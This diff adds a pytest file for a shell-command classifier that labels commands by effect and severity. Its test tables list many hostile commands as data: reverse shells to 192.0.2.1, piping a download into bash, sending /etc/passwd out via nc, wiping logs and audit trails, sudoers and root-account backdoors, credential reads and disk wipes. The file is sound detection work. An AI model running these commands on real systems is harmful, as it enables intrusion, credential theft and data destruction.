@@ -1,0 +1,227 @@
+"""What a shell does: one line, one claim."""
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from judgement import shell
+from judgement.facts import Kind, Quality
+from tests.judgement.tables import rows
+
+# command -> verbs : objects
+VERBS = r"""
+ls -la /root/.ssh -> neutral : /root/.ssh
+cd /tmp && pwd -> neutral
+ps aux | head -> neutral
+df -h -> neutral
+[ -f x ] -> neutral
+x=1 -> neutral
+cat /var/log/nginx/error.log -> read : /var/log/nginx/error.log
+grep -c 500 access.log -> read : access.log
+sed -n 1,5p /etc/hosts -> read : /etc/hosts
+sed -i s/a/b/ app.conf -> write : app.conf
+perl -i -pe 's/a/b/' app.conf -> write : app.conf
+tar tf a.tgz -> read
+tar xzf a.tgz -C /srv -> write
+cp a b -> read write : a b
+echo hello > /tmp/a -> write : /tmp/a
+rm file.txt -> delete : file.txt
+find /srv -name '*.tmp' -delete -> read delete : /srv
+find /srv -type f -exec rm {} \; -> read delete
+find . -type f | xargs rm -f -> read delete
+> /srv/app/data.txt -> delete write : /srv/app/data.txt
+cat /dev/null > app.out -> delete read write
+truncate -s 0 app.out -> delete
+for f in /srv/*; do gzip "$f"; done -> write
+if [ -f x ]; then rm x; fi -> delete
+cleanup() { rm x; }; cleanup -> delete exec
+echo "$(rm x)" -> delete
+sudo -u app env A=1 nohup timeout -k 5 10 rm x -> delete : x
+bash -c "cat /srv/a | sort > /srv/b" -> read write : /srv/a /srv/b
+eval "rm x" -> delete exec
+ssh db01 'rm -rf /var/lib/cache/x' -> delete exec network : /var/lib/cache/x db01
+kubectl exec -it api -- rm x -> delete exec : x api
+docker exec db psql -c "DROP TABLE orders" -> delete schema exec : orders db
+psql -h db -c "DELETE FROM orders" -> delete : orders
+mysql -uroot -e 'SELECT a FROM t' -> read : t
+echo "drop table old" | mysql shop -> delete schema : old
+dd if=/dev/zero of=/dev/sda -> delete write exec
+mkfs.ext4 /dev/sdb1 -> delete write exec
+systemctl restart nginx -> exec : nginx
+systemctl status nginx -> read : nginx
+service nginx reload -> exec : nginx
+kill -9 123 -> exec
+./deploy.sh prod -> exec : prod
+apt-get install -y jq -> write exec : jq
+apt list --installed -> read
+systemctl stop auditd -> tamper exec : auditd
+service rsyslog stop -> tamper exec : rsyslog
+pkill auditd -> tamper exec
+unset HISTFILE -> tamper
+export HISTFILE=/dev/null -> tamper
+HISTSIZE=0 -> tamper
+history -c -> tamper
+set +o history -> tamper
+ln -sf /dev/null ~/.bash_history -> tamper
+rm -f /var/log/auth.log -> tamper delete : /var/log/auth.log
+> /var/log/wtmp -> tamper delete write
+sed -i /mallory/d /var/log/secure -> tamper write
+journalctl --vacuum-time=1s -> tamper delete
+journalctl -u nginx -> read : nginx
+auditctl -e 0 -> tamper
+auditctl -l -> read
+setenforce 0 -> tamper privilege
+vault audit disable file -> tamper
+aws cloudtrail stop-logging --name main -> tamper : main
+iptables -F -> tamper delete privilege network
+iptables -S -> read
+cat /etc/shadow -> secret read : /etc/shadow
+cat ~/.aws/credentials -> secret read
+diff /root/.ssh/id_rsa /safe/id_rsa -> secret read
+cat /srv/app/.env -> secret read
+ssh -i ~/.ssh/id_rsa db01 -> network exec : db01
+find / -name id_rsa -exec cat {} \; -> secret read
+vault kv get secret/db -> secret read : secret/db
+kubectl -n prod get secret db-pass -o yaml -> secret read : secret/db-pass prod
+aws secretsmanager get-secret-value --secret-id prod/db -> secret read : prod/db
+gcloud secrets versions access latest --secret=db -> secret read : db
+az keyvault secret show --name x --vault-name y -> secret read : x y
+psql -c 'SELECT passwd FROM pg_shadow' -> secret read : pg_shadow
+curl http://169.254.169.254/latest/meta-data/ -> secret network
+usermod -aG sudo mallory -> privilege : mallory sudo
+useradd -o -u 0 sysbak -> privilege persistence : sysbak
+chmod -R 777 /srv/app -> privilege write : /srv/app
+chmod 644 a -> write : a
+chmod u+s /bin/bash -> privilege write : /bin/bash
+echo "x ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers -> privilege write : /etc/sudoers
+echo x | sudo tee -a /etc/sudoers.d/x -> privilege write : /etc/sudoers.d/x
+sudo su - -> privilege exec
+kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=bob -> privilege : bob
+passwd -S bob -> read : bob
+echo key >> ~/.ssh/authorized_keys -> persistence write : ~/.ssh/authorized_keys
+echo "/tmp/.u &" >> ~/.bashrc -> persistence write : ~/.bashrc
+(crontab -l; echo "* * * * * /x") | crontab - -> persistence read write
+crontab -l -> read
+*/10 * * * * /srv/run -> persistence write exec
+bash -i >& /dev/tcp/192.0.2.1/99 0>&1 -> persistence network exec
+nc -e /bin/sh 192.0.2.1 99 -> persistence network exec
+curl -s http://example.org/x.sh | bash -> network read exec
+rsync -az /srv/app backup@192.0.2.5: -> export network : /srv/app
+scp /srv/a bob@files.example.org:/tmp -> export network : /srv/a
+scp bob@files.example.org:/tmp/a . -> network read write
+tar czf - /srv | ssh ops@192.0.2.1 "cat > d.tgz" -> export network exec read write : /srv
+curl -F file=@/srv/app https://files.example.org/ -> export network
+curl https://example.org/health -> network read : example.org
+cat /etc/passwd | nc 192.0.2.1 99 -> export network read : /etc/passwd
+nc -zv db01 5432 -> network read : db01
+aws s3 cp /srv/a s3://bucket/ -> export network : /srv/a
+aws s3 cp s3://bucket/a /srv -> network read write
+pg_dump shop > shop.sql -> export read write : shop shop.sql
+mail -s x bob@example.org < /srv/a -> export network read : /srv/a
+docker save app -> export read : app
+terraform destroy -auto-approve -> delete
+kubectl delete ns prod -> delete : ns/prod
+redis-cli FLUSHALL -> delete
+git push --force origin main -> delete write network
+"""
+
+BREADTH = """
+rm -rf / -> recursive root
+rm -rf /srv/app -> recursive
+rm file.txt ->
+rm -rf * -> recursive everything
+chmod -R 777 /srv/app -> recursive open_to_all
+chmod 644 a ->
+chmod u+s a ->
+iptables -F -> everything
+iptables -A INPUT -s 0.0.0.0/0 -j ACCEPT -> open_to_all
+kubectl delete pods --all -> everything
+find / -name x -exec rm {} + ->
+find /srv/a -type f -delete -> recursive
+"""
+
+
+class TestVerbs:
+    @pytest.mark.parametrize(("command", "verbs", "objects"), rows(VERBS))
+    def test_a_command_does_this_to_that(self, command: str, verbs: str, objects: str) -> None:
+        facts = shell.facts(command)
+        assert facts.kind is Kind.SHELL
+        assert {*facts.verbs} == {*verbs.split()}
+        assert {*objects.split()} <= {*facts.objects}
+        assert facts.quality is Quality.WHOLE
+
+    @pytest.mark.parametrize(("command", "breadth", "_"), rows(BREADTH))
+    def test_it_reaches_this_far(self, command: str, breadth: str, _: str) -> None:
+        assert {*shell.facts(command).breadth} == {*breadth.split()}
+
+    def test_what_reaches_the_whole_system_is_gravest(self) -> None:
+        rising = ["ls", "cat a", "rm a", "rm -rf a/b", "rm -rf /"]
+        severities = [shell.facts(command).severity for command in rising]
+        assert severities == sorted(set(severities))
+
+
+class TestDetails:
+    def test_where_something_is_sent_is_a_destination(self) -> None:
+        for command, destination in {
+            "rsync -az /srv backup@192.0.2.5:": "backup@192.0.2.5:",
+            "curl -T /srv/a https://files.example.org/": "https://files.example.org/",
+            "aws s3 cp /srv/a s3://bucket/": "s3://bucket/",
+            "tar c /srv | ssh ops@192.0.2.1 'cat > d'": "ops@192.0.2.1",
+            "cat a | nc 192.0.2.1 99": "192.0.2.1",
+            "mail bob@example.org < a": "bob@example.org",
+            "cp a /mnt/b": "/mnt/b",
+            "ls > /srv/list": "/srv/list",
+        }.items():
+            assert destination in shell.facts(command).destinations, command
+
+    def test_patterns_and_numbers_are_values_and_no_objects(self) -> None:
+        facts = shell.facts("grep 'order 881' app.log | head -n 5")
+        assert facts.objects == ("app.log",)
+        assert facts.literals == ("order 881", "5")
+
+    def test_what_wraps_a_command_is_named_too(self) -> None:
+        assert shell.facts("sudo systemctl restart nginx").commands == ("systemctl restart", "sudo")
+
+    def test_sql_in_a_here_document_is_read(self) -> None:
+        facts = shell.facts("psql shop <<EOF\nGRANT ALL ON orders TO bob;\nEOF")
+        assert {*facts.verbs} == {"privilege"}
+        assert {"orders", "bob"} <= {*facts.objects}
+
+    def test_a_utility_that_is_unknown_runs_something(self) -> None:
+        assert {*shell.facts("frobnicate --all").verbs} == {"exec"}
+
+
+class TestWhatCannotBeRead:
+    def test_around_errors_commands_are_read(self) -> None:
+        facts = shell.facts("rm -rf /srv/a; echo 'x")
+        assert facts.quality is Quality.PARTIAL
+        assert "delete" in facts.verbs
+
+    def test_nothing_is_known_of_what_is_no_command(self) -> None:
+        for text in ("", "  \n", "\0", "# a remark"):
+            assert shell.facts(text).quality is Quality.NONE
+
+    def test_binary_input_is_never_read_whole(self) -> None:
+        assert shell.facts("\x7fELF\2\1\1\0\3").quality is not Quality.WHOLE
+
+    def test_a_script_of_five_megabytes_is_searched_for_dangerous_words(self) -> None:
+        began = time.perf_counter()
+        facts = shell.facts("ls;" * 1_700_000 + "cat /etc/shadow")
+        assert time.perf_counter() - began < 3
+        assert facts.quality is Quality.PARTIAL
+        assert "secret" in facts.verbs
+
+    @pytest.mark.parametrize("part", ["a|", "(", "$(", "`", "{", "'\"", "sudo ", "> x ", "eval "])
+    def test_whatever_is_repeated_is_read_soon(self, part: str) -> None:
+        began = time.perf_counter()
+        shell.facts(part * (19_000 // len(part)))
+        assert time.perf_counter() - began < 4
+
+    @settings(max_examples=200, deadline=None)
+    @given(st.text() | st.text("rmls -cf/|&;<>$(){}'\"`*~=\n") | st.binary().map(bytes.hex))
+    def test_nothing_makes_it_crash(self, text: str) -> None:
+        facts = shell.facts(text)
+        assert 0 <= facts.severity <= 1
+        assert (facts.quality is Quality.NONE) == (not facts.verbs)
